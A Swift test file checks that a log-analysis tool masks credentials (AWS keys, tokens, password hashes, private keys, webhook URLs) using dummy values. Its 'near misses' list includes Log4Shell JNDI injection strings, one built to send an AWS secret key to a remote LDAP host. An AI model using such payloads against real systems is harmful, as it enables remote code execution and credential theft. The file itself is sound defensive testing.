import Evidence
import Testing

@testable import Timeline

@Suite("Secrets")
struct SecretMaskTests {
  private static let key = "abcdEFGH1234/abcdEFGH1234+abcdEFGH123456"

  /// As services draw them.
  private static let drawn = "4pL7qZ2xW9vB5nM3kJ8hG6fD1sA0rT7yU2iO5eC4wQ9mX3zN8bV1cK6jH0gF5dS2aP7"

  private func mask(_ text: String) -> (text: String, kinds: [Exposure.Kind]) {
    var kinds: [Exposure.Kind] = []
    let masked = SecretMask.mask(text) { kind, _ in kinds.append(kind) }
    return (masked ?? text, kinds)
  }

  @Test(
    "Each kind is taken out and named",
    arguments: [
      ("\"SecretAccessKey\" : \"\(key)\"", key, Exposure.Kind.awsSecretKey),
      ("export AWS_SECRET_ACCESS_KEY=\(key)", key, .awsSecretKey),
      ("SessionToken\":\"\(String(repeating: "aB3/", count: 40))\"", "aB3/aB3/", .awsSessionToken),
      ("token IQoJ\(String(repeating: "b3JpZ2lu", count: 20)) end", "b3JpZ2lub3", .awsSessionToken),
      ("admin:$6$saltsalt$\(String(repeating: "Ab./", count: 21)):19000:", "Ab./Ab", .passwordHash),
      ("root:$y$j9T$saltsaltsalt$\(String(repeating: "x", count: 43)):1", "xxxxxx", .passwordHash),
      ("-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----", "MIIEow", .privateKey),
      ("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk", "b3BlbnNzaC1rZXk", .privateKey),
      ("auth eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abcdefghijk_lmnop", "abcdefghijk", .webToken),
      ("clone https://x:ghp_\(String(repeating: "a1", count: 18))@example.org/", "a1a1a1", .urlPassword),
      ("jdbc:mysql://app:S3cret!@10.0.3.30:3306/x", "S3cret", .urlPassword),
    ])
  func masked(text: String, secret: String, kind: Exposure.Kind) {
    let made = mask(text)
    #expect(!made.text.contains(secret))
    #expect(made.text.contains("[masked "))
    #expect(made.kinds.first == kind)
    #expect(SecretMask.isNeeded(text))
  }

  /// Leads of services' tokens, and how much of what is drawn stands behind them.
  @Test(
    "Tokens of services are taken out",
    arguments: [
      ("GH=ghs_", 36), ("key: AIza", 35), ("//registry/:_authToken=npm_", 36), ("'sk_live_", 24), ("dckr_pat_", 27),
      ("hvs.CAES", 90), ("x-api-key: sk-ant-api03-", 95),
      ("https://hooks.slack.com/services/T0AB12CD3/B0AB12CD3EF/", 24),
      ("https://discord.com/api/webhooks/1234567890123456789/", 68),
    ] as [(String, Int)])
  func tokens(lead: String, count: Int) {
    let secret = String((Self.drawn + Self.drawn).prefix(count))
    let made = mask(lead + secret + " and more")
    #expect(!made.text.contains(secret.suffix(20)) && made.text.hasSuffix("] and more"))
    #expect(made.kinds == [.accessToken])
    // As documents show it.
    let shown = lead + String(repeating: "x", count: count)
    #expect(mask(shown).text == shown)
  }

  @Test func tokensOfHexadecimalDigits() {
    #expect(mask("shpat_0123456789abcdef0123456789abcdef").kinds == [.accessToken])
    #expect(mask("shpat_0123456789abcdeg0123456789abcdef").kinds.isEmpty)
  }

  @Test(
    "Near misses stay as they are",
    arguments: [
      "AKIAIOSFODNN7EXAMPLE", "ASIA3XFRBF53EXAMPLE7 used", "price $5 and $1$", "echo $1 $6", "secret_access_key=",
      "-----BEGIN CERTIFICATE-----\nMIIC\n-----END CERTIFICATE-----", "-----BEGIN PUBLIC KEY-----x",
      "eyJhbGciOiJub25lIn0",
      "${jndi:ldap://203.0.113.66:1389/a}", "http://203.0.113.66:8000/a@b", "ldap://host:389/@x", "IQoJshort", "",
      "aws sts get-session-token", "${jndi:ldap://x:${env:AWS_SECRET_ACCESS_KEY}@203.0.113.66/}",
    ])
  func kept(text: String) {
    #expect(mask(text).text == text)
    #expect(!SecretMask.isNeeded(text))
  }

  @Test("The same secret has the same fingerprint in two places, and only the first place of an artifact is listed")
  func fingerprints() {
    var list = ExposureList()
    let artifact = CaseSamples.artifact("x")
    for line in [9, 3, 5] {
      let event = Event(
        time: nil, dataType: "x", message: "aws_secret_access_key = \(Self.key)", locator: CaseSamples.line(line))
      #expect(!SecretMask.mask(event, in: artifact, into: &list).message.contains(Self.key))
    }
    #expect(list.sorted.count == 1)
    #expect(list.sorted.first?.locator.line == 3)
  }

  @Test("Attributes, lists and findings are masked too, and a finding keeps its id")
  func everywhere() {
    var list = ExposureList()
    var finding = CaseSamples.payload(1)
    finding.attributes.add("all", ["x", "SecretAccessKey=\(Self.key)"])
    let masked = SecretMask.mask(finding, into: &list)
    #expect(masked["all"]?.text.contains(Self.key) == false)
    #expect(masked.id == finding.id)
    #expect(list.sorted.map(\.kind) == [.awsSecretKey])
  }
}
